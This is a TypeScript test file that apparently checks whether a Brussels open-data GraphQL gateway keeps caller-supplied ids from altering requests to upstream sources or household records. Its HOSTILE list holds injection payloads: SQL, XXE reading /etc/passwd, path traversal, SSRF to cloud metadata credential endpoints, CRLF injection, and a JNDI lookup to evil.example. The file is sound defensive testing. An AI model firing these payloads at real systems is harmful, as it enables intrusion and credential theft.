import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { SANDBOX_KEYS } from '../../sandbox/clients.ts';
import { leakIn } from '../support/leaks.ts';
import { type RecordedCity, startRecordedCity } from '../support/recorded.ts';

let city: RecordedCity;
let known: ReadonlySet<string>;
beforeAll(async () => {
  city = await startRecordedCity({ isAlone: true });
  known = await ordinary();
});
afterAll(() => city.close());
beforeEach(() => city.resetCounts());

/** What ends a text in one of the languages that sources are asked in, or leads somewhere else. */
const HOSTILE = [
  '") or 1=1 or ("',
  "' OR '1'='1",
  '"; DROP TABLE stops; --',
  'x" or within_distance(geo, geom\'POINT(4 50)\', 999km) or "',
  "INTERSECTS(geom, POINT(0 0)) OR strIndexOf(id,'x')=0",
  "'); waitfor delay '0:0:5' --",
  '*:* OR id:[* TO *]',
  '<ogc:Filter><ogc:PropertyIsLike/></ogc:Filter>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '../../../etc/passwd',
  '..%2f..%2fadmin',
  '%2e%2e%2f',
  '..\\..\\windows',
  'http://169.254.169.254/latest/meta-data/',
  '//169.254.170.2/v2/credentials',
  'file:///etc/passwd',
  'http://[::1]:8000/',
  'a?limit=10000&select=*',
  'a&apikey=x#',
  'a\r\nhost: evil.example',
  'a\u0000b',
  '{"$gt":""}',
  `$\{jndi:ldap://evil.example/a}`,
  '{{7*7}}',
  '$(id)',
  '\u202eevil',
];

/** Places where a text of a caller may lead to a question to somebody else. */
const PLACES: Readonly<Record<string, string>> = {
  'the id of a stop': '{ stops(ids: [$id]) { id departures(first: 1) { line } } }',
  'the id of a bike station': '{ bikeStations(ids: [$id]) { id } }',
  'the id of a station': '{ airStations(ids: [$id]) { id hourly(pollutant: NO2, hours: 1) { value } } }',
  'the id of a sensor': '{ citizenSensors(ids: [$id]) { id } }',
  'the id of a counter': '{ bikeCounters(ids: [$id]) { id } }',
  'the id of a series': '{ regionalSeries(ids: [$id]) { id } }',
  'the id of a dataset': '{ datasets(ids: [$id]) { id } }',
  'the id of a permit': '{ permits(ids: [$id]) { id } }',
  'the id of an incident': '{ incidents(ids: [$id]) { id } }',
  'the id of a participation': '{ participations(ids: [$id]) { id } }',
  'the id of a project': '{ projects(ids: [$id]) { id } }',
  'the id of a line': '{ lines(ids: [$id]) { id } }',
  'an enterprise number': '{ enterprises(numbers: [$id]) { name } }',
  'a municipality': '{ municipalities(nisCodes: [$id]) { nisCode bikeStations(first: 1) { id } } }',
  'an area': '{ bikeStations(first: 1, within: { municipality: $id }) { id } }',
  'a text to search for': '{ places(text: $id) { text addresses { score } stops { id } } }',
  'a cursor': '{ municipalities(nisCodes: ["21009"]) { enterprises(first: 1, after: $id) { nodes { name } } } }',
};
const ask = (place: string, id: string) =>
  city.ask(`query($id: ${/text:|after:/.test(place) ? 'String' : 'ID'}!) ${place}`, { variables: { id } });

/** Paths and hosts that reach sources when nobody means any harm: what comes after must be no other. */
async function ordinary(): Promise<ReadonlySet<string>> {
  for (const place of Object.values(PLACES)) await ask(place, 'Ixelles');
  await ask(PLACES['the id of a stop'] ?? '', 'stib:8021');
  await ask(PLACES['the id of a station'] ?? '', '41R012');
  await ask(PLACES['an enterprise number'] ?? '', '0403091220');
  await ask(PLACES['a municipality'] ?? '', '21009');
  return new Set(city.arrived().map(({ at, request }) => pathOf(at, request)));
}
const pathOf = (at: string, request: string): string => `${at} ${request.replace(/\?.*/s, '').replace(/\d+/g, 'N')}`;

describe('a text of a caller changes no question to anybody but by its letters', () => {
  it.each(Object.entries(PLACES))('as %s', async (_, place) => {
    for (const text of HOSTILE) {
      city.resetCounts();
      const { status, errors = [], ...answer } = await ask(place, text);
      expect([200, 400], text).toContain(status);
      for (const { extensions } of errors)
        expect(extensions.code, text).toBeOneOf([
          'UNKNOWN_ID',
          'BAD_USER_INPUT',
          'GRAPHQL_VALIDATION_FAILED',
          'OUTSIDE_REGION',
        ]);
      expect(leakIn(JSON.stringify(errors), JSON.stringify(text)), text).toBeNull();
      expect(JSON.stringify(answer)).not.toMatch(/root:x|aws_secret/);
      for (const { at, isSource, request, headers } of city.arrived()) {
        if (!isSource) continue;
        expect([...known], `${text} at ${at}`).toContain(pathOf(at, request));
        // One parameter of an address, whatever is in it; and the same host as ever.
        const names = [...new URLSearchParams(request.replace(/^[^?]*\??/s, '')).keys()];
        expect(names, text).not.toContain('apikey');
        expect(String(headers.host)).toMatch(/^127\.0\.0\.1:\d+$/);
        expect(request).not.toMatch(/[\r\n\0"'<>]|\.\.\//);
      }
    }
  });

  it('whatever the text is', async () => {
    const part = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom(...HOSTILE, '"', "'", '\\', '/', '%', '&', '#'),
    );
    const text = fc.array(part, { minLength: 1, maxLength: 4 }).map((parts) => parts.join('').slice(0, 150));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...Object.values(PLACES)), text, async (place, id) => {
        city.resetCounts();
        const { status, errors = [] } = await ask(place, id);
        expect([200, 400]).toContain(status);
        for (const { extensions } of errors) expect(extensions.code).not.toMatch(/INTERNAL|SUBGRAPH|SOURCE/);
        for (const { at, isSource, request } of city.arrived())
          if (isSource) expect([...known]).toContain(pathOf(at, request));
      }),
      { numRuns: 60 },
    );
  });
});

it('nor a question to a table: a hostile id is a part of a key', async () => {
  const reason = {
    purpose: 'social-housing-allocation',
    legalBasis: 'invented-housing-code-art-7',
    caseReference: 'SLRB-2026-00042',
  };
  const headers = { 'x-api-key': SANDBOX_KEYS['city-of-brussels-desk'] };
  const query = 'query($id: ID!, $reason: AccessReasonInput!) { households(ids: [$id], reason: $reason) { id } }';
  for (const id of [...HOSTILE, 'city-of-brussels', 'INV-0007#', 'INV-0007\n', '', 'x'.repeat(5_000)]) {
    city.resetCounts();
    const { data, errors } = await city.ask(query, { variables: { id, reason }, headers });
    expect(data, id).toEqual({ households: [null] });
    expect(errors?.[0]?.extensions.code, id).toBe('UNKNOWN_ID');
    // What cannot be the number of a household is not even looked up.
    const asked = city.arrived().filter(({ at, body }) => at === 'household-register' && !body.includes('AGREEMENT#'));
    expect(asked, id).toEqual([]);
  }
});
